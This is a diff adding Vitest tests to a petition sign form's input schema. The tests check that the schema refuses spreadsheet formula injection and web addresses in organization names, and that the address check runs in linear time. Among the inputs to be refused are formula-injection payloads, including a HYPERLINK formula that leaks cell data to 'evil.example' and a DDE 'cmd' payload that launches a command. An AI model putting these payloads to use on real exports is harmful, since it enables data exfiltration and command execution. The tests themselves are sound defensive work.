@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { signInput, normalizeWebsite } from '#lib/signing/sign-input.ts';
+import { hasWebAddress } from '#lib/signing/web-address.ts';
 
 const valid = {
   letter: 'keep-kazakhstan-online',
@@ -46,6 +47,52 @@ describe('the sign form’s schema', () => {
     [{ consent: 'yes' }, 'consent: form.error.consent'],
   ])('refuses %o', (change, expected) => {
     expect(errorFor({ ...valid, ...change })).toContain(expected);
+  });
+  it.each([
+    ['organization', '=HYPERLINK("https://evil.example/?"&A2,\n"Open")'],
+    ['organization', '+Plus Org'],
+    ['organization', '@SUM(1+1)'],
+    ['statement', '=HYPERLINK("https://evil.example/?"&A2,\n"Open")'],
+    ['statement', '-2+3 and then\nsome'],
+    ['statement', '  \t=1+1'],
+    ['contactName', '=cmd|\' /C calc\'!A0'],
+    ['contactRole', '-Director'],
+  ])('refuses a %s that a spreadsheet would run as a formula: %j', (field, value) => {
+    expect(errorFor({ ...valid, [field]: value })).toContain(`${field}: form.error.formula`);
+  });
+  it('keeps a formula character anywhere but first', () => {
+    expect(signInput.parse({ ...valid, organization: 'Adil Soz +', statement: 'One\n=two', contactRole: 'Director - Almaty' })).toMatchObject({ statement: 'One\n=two' });
+  });
+  it.each([
+    'Visit http://evil.example now',
+    'HTTPS://EVIL.EXAMPLE',
+    'hxxp://evil.example',
+    'Cheap pills www.pills.example',
+    'WWW.pills',
+    'Go to evil.example/path',
+    'evil.example?x=1',
+    'evil.example:8080',
+    'Cheap pills at pills.com',
+    'info@pills-shop.kz',
+    'Vlast.kz',
+    'пример.рф',
+    'ｅｖｉｌ．ｃｏｍ',
+    'evil。com',
+    '203.0.113.9',
+  ])('refuses an organization name holding a web address: %j', (organization) => {
+    expect(errorFor({ ...valid, organization })).toContain('organization: form.error.webAddress');
+  });
+  it.each(['St.Petersburg Human Rights Centre', 'School No.1', 'U.S. Friends of Kazakhstan', 'Adil Soz.', 'Dr. Aliyev Foundation', 'Internews (Kazakhstan)', 'A.B.C. Media'])(
+    'accepts an organization name with dots that is no address: %j',
+    (organization) => {
+      expect(errorFor({ ...valid, organization })).toBeUndefined();
+    },
+  );
+  it('looks for web addresses in time proportional to the text, also in 20,000 characters of junk', () => {
+    // A pattern of labels and dots backtracks quadratically: 20,000 letters took most of a second.
+    const started = performance.now();
+    for (const unit of ['x', 'a.', 'x:', 'я.', '1.', 'w.', 'a-']) expect(hasWebAddress(unit.repeat(20_000 / unit.length))).toBe(false);
+    expect(performance.now() - started).toBeLessThan(300);
   });
   it('refuses fields it does not know', () => {
     expect(errorFor({ ...valid, status: 'published' })?.join()).toMatch(/Unrecognized key/i);
